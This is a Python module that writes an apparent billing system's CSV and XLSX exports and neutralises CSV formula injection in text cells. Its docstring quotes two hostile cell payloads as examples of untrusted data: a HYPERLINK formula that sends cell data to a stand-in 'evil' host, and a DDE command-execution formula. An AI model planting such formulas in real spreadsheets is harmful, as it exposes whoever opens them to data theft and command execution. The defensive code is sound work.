"""The one way out to a spreadsheet: every CSV and XLSX download is written here, so each one is
typed the same way (money as numbers, dates as dates) and safe to open in Excel or LibreOffice.

Why one module: a member name such as `=HYPERLINK("http://evil/?"&A1)` or `=cmd|' /C calc'!A0`
is data we did not write. A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and
some read a leading tab or carriage return the same way) as a formula ("CSV injection"). Every
TEXT cell starting with one of those is neutralised by a leading single quote, the OWASP
recommendation, in CSV and XLSX alike; numbers stay numbers (a credit of -12.50 is written as
the number -12.50, never as text). Money is Decimal throughout; xlsxwriter takes Decimal as it is.

What each download holds is its subject's: the reports (reports/framework.py), an invoice's
lines (reports/invoice_sheets.py), a statement's sections (reports/statement_sheets.py), a
census upload's problems and template; this module only writes them.
"""

from __future__ import annotations

import csv
import enum
import functools
import io
import itertools
import re
import tempfile
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from typing import BinaryIO, Literal

import xlsxwriter

from billing_core.money import ZERO, D, cents

ColumnKind = Literal["text", "money", "rate", "date", "period", "integer"]
KINDS: frozenset[str] = frozenset({"text", "money", "rate", "date", "period", "integer"})

# What a spreadsheet may read as the start of a formula (OWASP "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# Excel number formats. Negatives carry a minus sign, the screen convention (JOURNEYS.md).
MONEY_FORMAT = "#,##0.00;-#,##0.00"
RATE_FORMAT = "#,##0.00####"  # 112.40, 0.225, 0.0125: at least two places, up to six
INTEGER_FORMAT = "0"
DATE_FORMAT = "yyyy-mm-dd"
PERIOD_FORMAT = "mmm yyyy"

# Control characters XML cannot hold (openpyxl's ILLEGAL_CHARACTERS_RE): dropped from text.
ILLEGAL_CHARACTERS_RE = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")
_SHEET_TITLE_BAD = re.compile(r"[\[\]:*?/\\]")
_WIDTH_SAMPLE_ROWS = 500
_MIN_WIDTH, _MAX_WIDTH = 8, 60


@dataclass(frozen=True)
class Column:
    """One column of an export: its header and what its cells hold.

    text: str (anything else is str()-ed; enums give their value), neutralised.
    money: Decimal (or str/int; floats are refused) rounded to the cent.
    rate: Decimal as stored (0.225 stays 0.225). date: a date. period: a coverage month (the
    date of its first day). integer: int. None is an empty cell in every kind."""

    header: str
    kind: ColumnKind = "text"

    def __post_init__(self) -> None:
        if self.kind not in KINDS:
            raise ValueError(f"unknown column kind {self.kind!r} for {self.header!r}")


@dataclass
class Sheet:
    """One table: a sheet of a workbook, or the whole of a CSV. `rows` may be any iterable
    (a generator streams); each row has one value per column."""

    title: str
    columns: Sequence[Column]
    rows: Iterable[Sequence]


def neutralise(text: str) -> str:
    """`text`, with a leading `'` when a spreadsheet could read it as a formula."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def _text(value) -> str:
    if isinstance(value, enum.Enum):
        value = value.value
    return neutralise(value if isinstance(value, str) else str(value))


def _money(value) -> Decimal:
    amount = cents(D(value))
    return ZERO if amount == 0 else amount  # never -0.00


def _rate(value) -> Decimal:
    return D(value)


def _integer(value) -> int:
    if isinstance(value, bool) or not isinstance(value, int | Decimal):
        raise TypeError(f"integer column given {type(value).__name__} {value!r}")
    if isinstance(value, Decimal):
        if value != value.to_integral_value():
            raise ValueError(f"integer column given {value!r}")
        return int(value)
    return value


def _day(value) -> date:
    if isinstance(value, datetime):
        return value.date()
    if not isinstance(value, date):
        raise TypeError(f"date column given {type(value).__name__} {value!r}")
    return value


def _plain(value: Decimal) -> str:
    """A rate as written on a rate sheet, never in exponent form: 0.225, 112.40, 100."""
    text = format(value.normalize(), "f")
    if "." not in text:
        return text
    whole, places = text.split(".")
    return f"{whole}.{places.ljust(2, '0')}"


# --------------------------------------------------------------------------- CSV


def _csv_cell(kind: str, value) -> str:
    if value is None:
        return ""
    if kind == "text":
        return _text(value)
    if kind == "money":
        return f"{_money(value):.2f}"
    if kind == "rate":
        return _plain(_rate(value))
    if kind == "integer":
        return str(_integer(value))
    if kind == "date":
        return _day(value).isoformat()
    return f"{_day(value):%Y-%m}"  # period: ISO 8601 year-month


def csv_bytes(columns: Sequence[Column], rows: Iterable[Sequence]) -> bytes:
    """A CSV file: a header row, then `rows`. UTF-8 with a byte-order mark (so Excel reads names
    with accents right), CRLF line ends, dates ISO (2027-01-15), periods ISO year-month
    (2027-01), money plain to the cent (-12.50, no thousands separator), text neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([neutralise(c.header) for c in columns])
    kinds = [c.kind for c in columns]
    for number, row in enumerate(rows, start=1):
        if len(row) != len(kinds):
            raise ValueError(f"row {number} has {len(row)} values for {len(kinds)} columns")
        writer.writerow([_csv_cell(kind, value) for kind, value in zip(kinds, row, strict=True)])
    return buffer.getvalue().encode("utf-8-sig")


# --------------------------------------------------------------------------- XLSX


def _xml_text(text: str) -> str:
    """Text as an XML reader gets it back: control characters XML cannot hold are dropped (a name
    never carries one), line ends are line feeds (what XML makes of a carriage return anyway;
    xlsxwriter would escape it as `_x000D_`, which not every reader undoes)."""
    text = ILLEGAL_CHARACTERS_RE.sub("", text)
    if "\r" in text:
        text = text.replace("\r\n", "\n").replace("\r", "\n")
    return text


def _xlsx_text(value) -> str:
    """A text cell: neutralised, and XML-clean. Most text is printable (no control character,
    no line end), which `str.isprintable` tells at C speed: only the rest is scrubbed, and
    neutralised again in case dropping a control character bared a formula trigger."""
    text = _text(value)
    if text.isprintable():
        return text
    return neutralise(_xml_text(text))


# Excel's serial day numbers: days since 1899-12-31, one more from 1900-03-01 on (Excel counts
# a 29 February 1900 that never was). A date cell is that number with a date format.
_EXCEL_EPOCH = date(1899, 12, 31)


@functools.lru_cache(maxsize=1024)
def _serial_of(day: date) -> int:
    days = (day - _EXCEL_EPOCH).days
    return days + 1 if days > 59 else days


def _xlsx_day(value) -> int:
    """A date or period cell as Excel's serial day number (coverage months and due dates repeat
    down a sheet, so each day is converted once)."""
    return _serial_of(_day(value))


# What each kind of column holds in a workbook, chosen once per column rather than per cell.
_XLSX_CONVERTERS = {
    "text": _xlsx_text,
    "money": _money,
    "rate": _rate,
    "integer": _integer,
    "date": _xlsx_day,
    "period": _xlsx_day,
}

_NUMBER_FORMATS = {
    "money": MONEY_FORMAT,
    "rate": RATE_FORMAT,
    "integer": INTEGER_FORMAT,
    "date": DATE_FORMAT,
    "period": PERIOD_FORMAT,
}


def _display_width(kind: str, value) -> int:
    """Roughly how many characters the cell shows, for the column width."""
    if value is None:
        return 0
    if kind == "money":
        return len(f"{value:,.2f}")
    if kind == "rate":
        return len(_plain(value)) + 1
    if kind == "date":
        return 10
    if kind == "period":
        return 8
    if kind == "integer":
        return len(str(value))
    return max((len(line) for line in value.split("\n")), default=0)


def _sheet_titles(sheets: Sequence[Sheet]) -> list[str]:
    """Titles Excel accepts: no []:*?/\\, at most 31 characters, unique (case-insensitively)."""
    titles: list[str] = []
    seen: set[str] = set()
    for sheet in sheets:
        base = _SHEET_TITLE_BAD.sub(" ", sheet.title).strip().strip("'")[:31] or "Sheet"
        title, n = base, 2
        while title.lower() in seen:
            suffix = f" ({n})"
            title, n = base[: 31 - len(suffix)] + suffix, n + 1
        seen.add(title.lower())
        titles.append(title)
    return titles


def write_xlsx(sheets: Sequence[Sheet], out: BinaryIO) -> None:
    """Write an XLSX workbook to `out`, one worksheet per Sheet in order. Money and rates are
    numbers (money `#,##0.00`, negatives with a minus sign), dates real dates (`yyyy-mm-dd`),
    periods the date of the month's first day shown `mmm yyyy`; a bold header row that is frozen
    and carries an autofilter; column widths from the header and the first 500 rows.

    Constant memory: xlsxwriter's `constant_memory` mode writes each row to a temporary file as
    soon as the next one starts (strings inline, no shared-string table), so a sheet of any
    length holds one row of cells at a time; `rows` may be a generator over a database cursor."""
    if not sheets:
        raise ValueError("a workbook needs at least one sheet")
    workbook = xlsxwriter.Workbook(out, _WORKBOOK_OPTIONS)
    formats = {kind: workbook.add_format({"num_format": f}) for kind, f in _NUMBER_FORMATS.items()}
    header_format = workbook.add_format(
        {"bold": True, "pattern": 1, "bg_color": "#EEF1F6", "valign": "top"}
    )
    for sheet, title in zip(sheets, _sheet_titles(sheets), strict=True):
        _write_sheet(workbook.add_worksheet(title), sheet, formats, header_format)
    workbook.close()


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """The workbook `write_xlsx` writes, as bytes (spooled to disk past a few megabytes)."""
    with tempfile.SpooledTemporaryFile(max_size=_SPOOL_BYTES) as out:
        write_xlsx(sheets, out)
        out.seek(0)
        return out.read()


# Text is written as text whatever it looks like: never read as a formula, a URL or a number.
_WORKBOOK_OPTIONS = {
    "constant_memory": True,
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}
_SPOOL_BYTES = 8 * 1024 * 1024


def _write_sheet(ws, sheet: Sheet, formats: dict, header_format) -> None:
    kinds = [c.kind for c in sheet.columns]
    converters = [_XLSX_CONVERTERS[kind] for kind in kinds]
    rows = iter(sheet.rows)
    sample = [
        _xlsx_row(converters, row, number)
        for number, row in enumerate(itertools.islice(rows, _WIDTH_SAMPLE_ROWS), start=1)
    ]
    for index, column in enumerate(sheet.columns):
        widest = max(
            [len(column.header) + 3]  # room for the autofilter button
            + [_display_width(column.kind, row[index]) + 1 for row in sample]
        )
        ws.set_column(index, index, min(max(widest, _MIN_WIDTH), _MAX_WIDTH))
    ws.freeze_panes(1, 0)
    for index, column in enumerate(sheet.columns):
        ws.write_string(0, index, _xml_text(neutralise(column.header)), header_format)
    # The row loop is the whole cost of a large sheet: per column one converter, one writer
    # and one format, chosen once (text cells are strings, every other kind a number, dates
    # as Excel's serial day with a date format), and each cell converted and written at once.
    plan = [
        (index, convert, ws.write_string if kind == "text" else ws.write_number, formats.get(kind))
        for index, (kind, convert) in enumerate(zip(kinds, converters, strict=True))
    ]
    width = len(plan)
    count = 0
    for values in sample:
        count += 1
        for (index, _, write, number_format), value in zip(plan, values, strict=True):
            if value is not None:
                write(count, index, value, number_format)
    for number, row in enumerate(rows, start=count + 1):
        if len(row) != width:
            raise ValueError(f"row {number} has {len(row)} values for {width} columns")
        for (index, convert, write, number_format), value in zip(plan, row, strict=False):
            if value is not None:
                write(number, index, convert(value), number_format)
        count = number
    ws.autofilter(0, 0, count, max(width, 1) - 1)


def _xlsx_row(converters: list, row: Sequence, number: int) -> list:
    if len(row) != len(converters):
        raise ValueError(f"row {number} has {len(row)} values for {len(converters)} columns")
    return [None if v is None else convert(v) for convert, v in zip(converters, row, strict=True)]
